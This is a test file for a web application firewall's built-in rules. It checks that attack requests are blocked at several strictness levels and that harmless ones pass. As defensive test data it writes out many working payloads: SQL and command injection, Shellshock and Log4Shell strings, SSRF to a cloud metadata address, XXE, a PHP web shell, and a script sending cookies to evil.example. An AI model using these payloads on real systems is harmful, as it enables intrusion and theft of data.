import { readdirSync, readFileSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import { builtinRules } from '../src/builtin/builtin-rules.ts'
import { compileRuleSet } from '../src/compile/compile-rule-set.ts'
import { noRuleFiles } from '../src/language/rule-files.ts'
import { createSeclangInspector, type SeclangInspector } from '../src/transaction/seclang-inspector.ts'
import { benignValues } from './benign-values.ts'
import { asDrawing, asJsonBody } from './builtin-places.ts'
import { carry, inspect, isRefused, places, type SampleRequest, type SampleResponse } from './rule-traffic.ts'
import { sqliAttacks } from './sqli-attacks.ts'

function inspectorAt(paranoia: number): SeclangInspector {
  const text = `SecAction "id:769999,phase:1,pass,nolog,setvar:tx.sf_paranoia=${paranoia}"\n`
  const rules = compileRuleSet([{ file: 'site.conf', text }, ...builtinRules], { files: noRuleFiles })
  return createSeclangInspector(rules)
}

const inspectors = [1, 2, 3, 4].map(inspectorAt)

function matchesOf(paranoia: number, request: SampleRequest, response?: SampleResponse) {
  const inspector = inspectors[paranoia - 1]
  if (inspector === undefined) throw new Error(`no paranoia level ${paranoia}`)
  const report = inspect(inspector, request, response)
  return { ids: report.matches.map((match) => Number(match.ruleId)), refused: isRefused(report) }
}

const query = (value: string, name = 'q'): SampleRequest => carry(value, 'query', name)
const form = (value: string, name = 'q'): SampleRequest => carry(value, 'form', name)
const cookie = (value: string): SampleRequest => ({ headers: { Cookie: `viewed=${value}` } })
const json = (body: unknown): SampleRequest => ({
  method: 'POST',
  target: '/api/x',
  headers: { 'Content-Type': 'application/json' },
  body: typeof body === 'string' ? body : JSON.stringify(body),
})
const xml = (body: string): SampleRequest => ({
  method: 'POST',
  target: '/api/price-list',
  headers: { 'Content-Type': 'application/xml' },
  body,
})
const graphql = (query: string | readonly string[]): SampleRequest => ({
  ...json(typeof query === 'string' ? { query } : query.map((one) => ({ query: one }))),
  target: '/shop/graphql',
})
const agent = (name: string): SampleRequest => ({ headers: { 'User-Agent': name } })
const base64 = (text: string): string => Buffer.from(text).toString('base64')
const upload = (fileName: string, field = 'picture'): SampleRequest => ({
  method: 'POST',
  target: '/account/picture',
  headers: { 'Content-Type': 'multipart/form-data; boundary=b0undary' },
  body: `--b0undary\r\nContent-Disposition: form-data; name="${field}"; filename="${fileName}"\r\nContent-Type: image/png\r\n\r\npixels\r\n--b0undary--\r\n`,
})

type Vector = readonly [id: number, what: string, request: SampleRequest]

// At paranoia level 1 each of these is refused, and the named rule is among those that matched.
const refused: readonly Vector[] = [
  [770301, 'a command in a path', { target: '/files/7;cat%20%2Fetc%2Fgroup' }],
  [770324, 'Python in a path', { target: "/run/__import__('os').system('uptime')" }],
  [
    770208,
    'SQL in the address of the page before',
    { headers: { Referer: "https://shop.example/?a=1' or 1=1--" } },
  ],
  [770208, 'SQL in an address that a proxy adds', { headers: { 'X-Forwarded-For': "1' and sleep(9)-- " } }],
  [770301, 'a command in a name', { target: '/items?7%3Bcat+/etc/passwd=1' }],
  [
    770502,
    'a script in a host that a proxy adds',
    { headers: { 'X-Forwarded-Host': '<script>alert(1)</script>' } },
  ],
  [770503, 'a script that leaves a string, in XML', xml("<name>';alert(1)//</name>")],
  [770221, 'a filter of a directory, in XML', xml('<user>*)(uid=*))(|(uid=*</user>')],
  [770211, 'an operator of a document database, in XML', xml('<q>{"$ne": null}</q>')],
  [770109, 'a recipient, in XML', xml('<to>a@b.example&#13;&#10;Bcc: c@d.example</to>')],
  [770401, 'a path in the text of a query', graphql('{ file(path: "/etc/passwd") { size } }')],
  [
    770411,
    'an inner address in a batch of queries',
    graphql(['{ a }', '{ load(url: "http://127.0.0.1/") { id } }']),
  ],
  [
    770201,
    'SQL in a bare query',
    {
      method: 'POST',
      target: '/api',
      headers: { 'Content-Type': 'application/graphql' },
      body: '{ user(name: "x\' or 1=1--") { id } }',
    },
  ],
  [770207, 'words of a query cut by comments', query("x' uni/**/on sel/**/ect 9")],
  [770101, 'a method that nothing uses', { method: 'TRACE' }],
  [
    770104,
    'length and chunks together',
    { headers: { 'Transfer-Encoding': 'chunked', 'Content-Length': '3' } },
  ],
  [770107, 'a NUL byte in a value', query('a\0.png', 'file')],
  [770108, 'a header in a value', query('x\r\nSet-Cookie: a=b')],
  [770109, 'mail recipients in a form', form('x\nBcc: a@example.org')],
  [770151, 'a scanner', agent('sqlmap/1.8.2#stable (https://sqlmap.org)')],
  [770153, 'a repository', { target: '/.git/config' }],
  [770153, 'a dump', { target: '/backup.sql' }],
  [770153, 'an environment file', { target: '/.env' }],
  [770154, 'a left-over file', { target: '/index.php.bak' }],
  [770201, 'a UNION', query("zz' UNION SELECT 0,value,key,0,'' FROM settings--")],
  [
    770201,
    'a UNION with comments for blanks',
    query("zz'/**/uNiOn/**/aLl/**/sElEcT/**/0,value/**/fRoM/**/settings--"),
  ],
  [770201, 'half of a UNION', query("zz' UNION/*")],
  [770201, 'the other half', query("*/SELECT 0,value,key,0,'' FROM settings--")],
  [
    770201,
    'a conditional as a sort order',
    query('(CASE WHEN ascii(substr((SELECT value FROM settings),1,1))<5 THEN id ELSE -id END)', 'sort'),
  ],
  [
    770201,
    'a cast as a sort order',
    query("CAST((SELECT value FROM settings WHERE key='payment_key') AS int)", 'sort'),
  ],
  [770201, 'a login as somebody', form("admin'--", 'user')],
  [770201, 'a second statement', query("x'; UPDATE users SET role='admin' WHERE name='mallory'; SELECT 1--")],
  [770201, 'doubly encoded SQL', query('1%27%20or%20%271%27%3d%271')],
  [770201, 'SQL in XML', xml('<a><b>1 or 1=1</b></a>')],
  [770202, 'SQL in the path', { target: '/product/1%20AND%201%3D(SELECT%201%20FROM%20pg_sleep(1.2))' }],
  [770205, 'SQL in a segment with slashes in it', { target: "/product/1'%2F**%2For%2F**%2F1=1--/reviews" }],
  [770205, 'SQL in a segment with comments for blanks', { target: '/product/1/**/union/**/select/**/1,2--' }],
  [770206, 'a number or a column in the path', { target: '/product/0%20OR%20hidden' }],
  [770206, 'the same in pieces', { target: '/product/7%09||%0anot%20hidden?x=1' }],
  [770201, 'a number or a column', query('0 OR hidden', 'category')],
  [770201, 'a table dropped with all it holds', query("x'; DROP TABLE orders CASCADE;--", 'category')],
  [770201, 'a pause behind a sort key', query('user_login,SLEEP(5)', 'sort')],
  [770201, 'a pause behind a direction', query('price desc,pg_sleep(5)', 'sort')],
  [770203, 'SQL in a header', { headers: { Referer: "' or 1=1--" } }],
  [770204, 'SQL in a base64 cookie', cookie(base64("0) UNION SELECT 1,value,key,0,'' FROM settings--"))],
  [770211, 'an operator for a password', json({ partner: 'northwind', password: { $ne: null } })],
  [770211, 'an operator deeper', json({ approved: { $in: [true, false] } })],
  [770211, 'an operator in a form', { target: '/login?user[$ne]=x' }],
  [770211, 'a script for the database', json({ $where: 'sleep(1000)' })],
  [770212, 'an operator in base64', form(base64('{"a":{"$gt":""}}'))],
  [770221, 'a directory filter', form('*)(uid=*))(|(uid=*', 'user')],
  [770222, 'a path expression', query("' or count(/*)=1 or 'a'='b")],
  [770301, 'a command behind a semicolon', form('Ada; cat private/payment.key #', 'name')],
  [770301, 'a command in pieces', form("Ada|c''a\\t${IFS}priv*/paymen?.k?y;#", 'name')],
  [770301, 'a command in an address', form('$(cp private/payment.key uploads/n.txt)@example.org', 'email')],
  [770302, 'a command in a header', { headers: { 'X-Name': '; cat /etc/passwd' } }],
  [770303, 'the bug of bash', agent('() { :; }; /bin/cat /etc/passwd')],
  [770304, 'a command in base64', form(base64('; cat /etc/passwd'))],
  [770305, 'an argument that sources a file', query('. private/payment.key', 'topic')],
  [770307, 'an option for an interpreter', { target: '/?-d+allow_url_include%3d1' }],
  [770307, 'an option alone', { target: '/index.php?-s' }],
  [770306, 'a command in the name of a browser', agent('Mozilla/5.0 (X11)|base64 secrets.yml')],
  [770301, 'a command in back-ticks before an address', form('`h$9ead -n 3 a.?nv`@example.org', 'email')],
  [770311, 'a template', form('{{7*7}}')],
  [770311, 'a template in pieces', form("{{(g=>g['get'+'Built'+'inModule']('f'+'s'))(this['pro'+'cess'])}}")],
  [770311, 'a look-up of a logger', agent('${jndi:ldap://198.51.100.7/a}')],
  [770312, 'a template in base64', form(base64('{{config.items()}}'))],
  [770321, 'script for the server', form("require('child_process').execSync('id')")],
  [770322, 'a function in a saved cart', form(base64('{"label":"$js:() => process.exit()"}'), 'cart')],
  [770323, 'PHP', form("<?php system($_GET['c']); ?>")],
  [770323, 'a call as the whole value', query("exec('uptime')")],
  [770325, 'PHP in base64', form(base64("<?php system($_GET['c']); ?>"))],
  [770324, 'Python', form("__import__('os').system('id')")],
  [770326, 'Java in base64', form(base64('java.lang.Runtime.getRuntime()'))],
  [770331, 'a Java object', form('rO0ABXNyABFqYXZhLnV0aWwuSGFzaA==')],
  [770331, 'a PHP object', form('O:8:"stdClass":1:{s:1:"a";i:1;}')],
  [770332, 'a PHP object in base64', form(base64('O:8:"stdClass":1:{s:1:"a";i:1;}'))],
  [770343, 'an empty object for the prototype', asJsonBody('{"a":{"__proto__":{}}}')],
  [770343, 'the same in escapes', asJsonBody('{"\\u005f_proto__":{"a":[]}}')],
  [770341, 'the prototype', json('{"theme":"dark","__proto__":{"admin":true}}')],
  [770341, 'the prototype by its constructor', json({ constructor: { prototype: { admin: true } } })],
  [770342, 'the prototype inside text', form('{"__proto__":{"admin":true}}')],
  [770401, 'a path to a file of the system', query('../../../etc/passwd', 'file')],
  [770401, 'a doubly encoded path', query('%2e%2e%2fprivate%2fpayment.key', 'name')],
  [770402, 'a path that wanders', query('./x/./..//../private/./payment.key', 'file')],
  [770403, 'an encoded path in the URL', { target: '/assets/%2e%2e%2fprivate%2fpayment.key' }],
  [770404, 'a path in base64', form(base64('../../../etc/passwd'))],
  [770405, 'a file of the system in the URL', { target: '/static//etc/passwd' }],
  [770411, 'the own machine', query('http://127.0.0.1:8080/', 'url')],
  [770411, 'the own machine in hexadecimal', query('http://0x7f000001/latest/meta-data/', 'url')],
  [770411, 'the own machine in decimal', json({ url: 'http://2130706433/metadata' })],
  [770411, 'the own machine in octal', json({ url: 'http://0177.0.0.01/metadata' })],
  [770411, 'the own machine, short', query('http://127.1/redirect?to=x', 'url')],
  [770411, 'the metadata service', json({ url: 'http://169.254.169.254/latest/' })],
  [770412, 'a scheme for servers', query('gopher://10.0.0.1:25/_HELO', 'url')],
  [770413, 'a remote script', query('http://198.51.100.7/shell.txt?', 'page')],
  [770413, 'a remote script cut by a NUL', query('http://scripts.example/s.txt%00', 'page')],
  [770414, 'an inner address without a scheme', query('//10.0.0.5:8080/admin', 'picture')],
  [770421, 'a redirect', query('https://larch-lantern.evil.example/login', 'to')],
  [770421, 'a redirect without scheme', query('//evil.example/..', 'to')],
  [770421, 'a redirect with backslashes', query('/\\evil.example', 'next')],
  [
    770431,
    'an external entity',
    xml('<?xml version="1.0"?><!DOCTYPE p [<!ENTITY k SYSTEM "file:///x/payment.key">]><p>&k;</p>'),
  ],
  [770431, 'nested entities', xml('<!DOCTYPE p [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;">]><p>&b;</p>')],
  [770501, 'a script', query('<script>new Image().src="//evil.example/"+document.cookie</script>')],
  [770501, 'a handler', form('Great <img src=x onerror="fetch(1)">', 'text')],
  [770501, 'a handler with references', query('<sVg/oNloAd=fetch&lpar;`//x`&#41;>')],
  [770502, 'a script in the path', { target: '/%3Cscript%3Ealert(1)%3C/script%3E' }],
  [770503, 'a script that leaves a string', query("';alert(1)//")],
  [770503, 'a call by a computed name', query("self[Object.keys(self)[5]]('1')")],
  [770503, 'a call by an escaped name', query("top['al\\x65rt'](1)")],
  [770503, 'a script as an address', query('javascript:void(0)', 'next')],
  [770504, 'a script in escapes', query('\\u003cscript\\u003ealert(1)')],
  [770505, 'a script in base64', form(base64('<script>alert(1)</script>'))],
  [770506, 'an expression of a framework', query("{{$on.constructor('x')()}}")],
  [770601, 'a script as a picture', upload('me.php')],
  [770601, 'a page as a picture', upload('me.html')],
  [770601, 'a script with two endings', upload('me.php.')],
  [770604, 'a drawing with a script', asDrawing('<svg><script>fetch(1)</script></svg>')],
  [770604, 'a drawing with a handler', asDrawing('<?xml version="1.0"?>\n<svg\tonload="top.x()"/>')],
  [770604, 'a drawing with a hidden link', asDrawing('<svg><a href="java&#115;cript:x()"/></svg>')],
  [770602, 'a file name with folders', upload('../files/warranty.txt')],
]

const innocent: readonly (readonly [what: string, request: SampleRequest])[] = [
  ['a path with parameters of its own', { target: '/maps;jsessionid=5F2A/tiles;v=1.2/a,b' }],
  [
    'a query with variables and a fragment',
    {
      ...json({
        query:
          'query Q($first: Int = 5, $id: ID!) { user(id: $id) { ...F posts(first: $first, where: {and: [{a: 1}, {b: "x or y"}]}) { id } } } fragment F on User { name }',
        variables: { first: 5, id: "o'neill" },
      }),
      target: '/graphql',
    },
  ],
  [
    'a batch of queries',
    graphql(['{ a(text: "rock & roll; it\'s") { id } }', 'mutation { drop(table: 4) { id } }']),
  ],
  ['a book about JavaScript', query('javascript: the good parts')],
  ['a scheme in a sentence', query('file:// does not work')],
  ['a number with a sign', { target: '/items?-1' }],
  [
    'a drawing',
    asDrawing('<svg xmlns="http://www.w3.org/2000/svg"><title>on = off</title><path d="M0 0"/></svg>'),
  ],
  ['a climbing link', query('https://example.org/a/../b', 'link')],
  ['a number or an amount in the path', { target: '/rooms/2%20or%20more' }],
  ['a file in a sentence', query('see ../src/a.ts or ../../b/c.js')],
  ['a path with two slashes', query('//api/v2/items', 'link')],
  ['steps of a build', form('- run: npm ci && npm test')],
  ['names of programs', form('We use (php && perl) || bash -- fine')],
  ['algebra', form('24x + 69 = 165 or x = 4')],
  ['a condition in a sentence', form("if 9 > 8 and 8 < 9 then it's fine")],
  ['words in quotes', form('"drop earrings" -sleeping')],
  ['a question at the end', form('the legs broke; echo one?')],
  ['a search', query('select tents from the student union')],
  ['a search with comments', query('boots /* any colour */ size 42')],
  ['a search with a semicolon', query('table; drop leaf')],
  ['a name', form("Mallory O'Neill", 'display')],
  ['a password', form("don't-look--here", 'password')],
  ['a sort order', query('price_cents DESC', 'sort')],
  ['an ordinary cookie', cookie(base64('1,5,9'))],
  ['an e-mail address', form('ada+trail@example.org', 'email')],
  ['a street', form('Kungsgatan 4, c/o Cat', 'street')],
  ['a download', query('size-guide.txt', 'file')],
  ['an asset', { target: '/assets/art/tents.svg' }],
  ['a greeting', form('For {{name}} ({{occasion}})!')],
  ['a sum', form('Dear {{ name }}, 2 + 2 = 4, always.')],
  ['a URL of a supplier', query('https://pictures.supplier.example/tents/ridgeline.jpg', 'url')],
  ['a way back', query('/category/light?sort=name', 'to')],
  ['a way back with the own host', query('https://shop.example.org/cart', 'next')],
  ['a price list', xml('<?xml version="1.0"?><prices><price product="4">79.00</price></prices>')],
  ['a review', form('Good, but on error of mine the image <of the moon> is missing ;-)', 'text')],
  ['a small script as text', query('script for <3 campfire stories')],
  ['a setting', json({ builder: { kind: 'constructor' }, theme: 'dark', proto: { type: 'tent' } })],
  ['a login', json({ partner: 'northwind', password: 'forgotten' })],
  ['a saved cart', form(base64('{"lines":[{"product":1,"quantity":2}],"label":"for the summer"}'), 'cart')],
  ['a picture', upload('me on the fell.png')],
  ['scripts of a package', json({ name: 'x', scripts: { build: 'rm -rf dist && tsc -b', test: 'vitest' } })],
  [
    'a GraphQL query',
    json({
      query: 'query Q($first: Int, $type: String) { items(first: $first) { id } }',
      variables: { first: 3 },
    }),
  ],
]

describe('built-in rules at paranoia level 1', () => {
  it.each(refused)('rule %i refuses %s', (id, _what, request) => {
    const { ids, refused } = matchesOf(1, request)
    expect(ids).toContain(id)
    expect(refused).toBe(true)
  })

  it.each(innocent)('let %s pass', (_what, request) => {
    expect(matchesOf(1, request)).toEqual({ ids: [], refused: false })
  })

  it('report their score', () => {
    const [inspector] = inspectors
    if (inspector === undefined) throw new Error('no inspector')
    expect(inspect(inspector, query("' or 1=1--")).score).toBeGreaterThanOrEqual(5)
    expect(inspect(inspector, query('tents')).score).toBe(0)
  })

  it('refuse generated injections in every place (seed 3)', () => {
    const missed = sqliAttacks(3, 120).flatMap((value) =>
      places
        .filter((place) => !matchesOf(1, carry(value, place)).refused)
        .map((place) => `${place}: ${value}`),
    )
    expect(missed).toEqual([])
  })

  it('refuse at most one in a thousand generated innocent values (seed 21)', () => {
    const values = benignValues(21, 1_000)
    const stopped = values.flatMap(({ kind, text }) =>
      (['form', 'json', 'query'] as const)
        .filter((place) => matchesOf(1, carry(text, place, 'comment')).refused)
        .map(() => `${kind}: ${text}`),
    )
    expect(stopped.length, stopped.slice(0, 3).join('\n')).toBeLessThanOrEqual(3)
  })
})

const leaks: readonly (readonly [id: number, what: string, body: string])[] = [
  [770701, 'a private key', '-----BEGIN PRIVATE KEY-----\nMIIE'],
  [770702, 'a file of the system', 'root:x:0:0:root:/root:/bin/bash\n'],
  [770703, 'an access key', 'key=AKIAIOSFODNN7EXAMPLE'],
  [770704, 'an error of the database', 'error: unterminated quoted string at or near "x"'],
  [770705, 'a stack trace', 'Error: x\n    at handler (/srv/shop/src/main.js:10:5)\n'],
  [770706, 'a listing of a folder', '<html><title>Index of /private</title>'],
  [770707, 'source', '<?php echo 1;'],
  [770708, 'the output of a command', 'uid=0(root) gid=0(root) groups=0(root)'],
]

describe('built-in rules on the way out', () => {
  it.each(leaks)('rule %i holds back %s', (id, _what, body) => {
    const { ids, refused } = matchesOf(1, {}, { body })
    expect(ids).toContain(id)
    expect(refused).toBe(true)
  })

  it.each(['<h1>Tents</h1><p>Our key to the hills</p>', 'The root: of all (evil)', '{"error":"not found"}'])(
    'let %j pass',
    (body) => {
      expect(matchesOf(1, {}, { body })).toEqual({ ids: [], refused: false })
    },
  )

  it('hold card numbers back at paranoia level 3 only', () => {
    const body = 'card 4111 1111 1111 1111.'
    expect(matchesOf(1, {}, { body }).ids).toEqual([])
    expect(matchesOf(3, {}, { body }).ids).toContain(770721)
  })
})

describe('paranoia levels', () => {
  const stricter: readonly (readonly [level: number, id: number, request: SampleRequest])[] = [
    [2, 770123, { headers: { Host: '192.0.2.1' } }],
    [2, 770124, { target: '/search?q=100%' }],
    [2, 770161, agent('curl/8.5.0')],
    [2, 770232, query('about the information_schema')],
    [2, 770351, query('call eval() here')],
    [2, 770441, query('https://example.com/', 'site')],
    [2, 770442, form('../README.md', 'text')],
    [2, 770511, query('<b>bold</b>')],
    [2, 770611, upload('drawing.svg')],
    [3, 770131, { target: '/search?q=caf%E9' }],
    [3, 770132, { target: '/search?a%20b=1' }],
    [3, 770241, query("it's time to select")],
    [3, 770361, query('a; bc d')],
    [3, 770521, query('a > b')],
    [4, 770141, { target: '/search?q=%01' }],
    [4, 770251, query("a';(=b)")],
  ]
  it.each(stricter)('level %i adds rule %i', (level, id, request) => {
    expect(matchesOf(level, request).ids).toContain(id)
    expect(matchesOf(level - 1, request).ids).not.toContain(id)
  })
})

describe('the rule files', () => {
  const folder = new URL('../rules/', import.meta.url)
  const names = readdirSync(folder)
    .filter((name) => name.endsWith('.conf'))
    .sort()
  const source = names.map((name) => readFileSync(new URL(name, folder), 'utf8')).join('')

  it('are the embedded text (else run rules/embed.mjs)', () => {
    expect(builtinRules.map(({ file }) => file)).toEqual(names.map((name) => `builtin/${name}`))
    expect(builtinRules.map(({ text }) => text).join('')).toBe(source)
  })

  it('compile without warnings', () => {
    expect(compileRuleSet(builtinRules, { files: noRuleFiles }).warnings).toEqual([])
  })

  it('tag every scoring rule with its level, class, weakness, pattern and technique', () => {
    const scoring = source.split(/\n(?=SecRule )/).filter((rule) => rule.includes('msg:'))
    for (const rule of scoring.filter((text) => !text.includes("tag:'verdict'")))
      expect(rule).toMatch(
        /tag:'paranoia-level\/[1-4]',tag:'attack-[a-z]+',tag:'CWE-\d+',tag:'CAPEC-\d+',tag:'ATTACK-T\d{4}/,
      )
    expect(scoring.length).toBeGreaterThan(70)
  })

  it('have vectors for every rule of level 1 that can be tried with one request', () => {
    const ids = [...source.matchAll(/"id:(\d+),[^\n]*paranoia-level\/1'/g)].map((match) => Number(match[1]))
    const tried = new Set([...refused.map(([id]) => id), ...leaks.map(([id]) => id)])
    const untried = ids.filter((id) => !tried.has(id))
    expect(untried).toEqual([770102, 770103, 770105, 770106, 770110, 770111, 770112, 770152, 770432, 770603])
  })
})
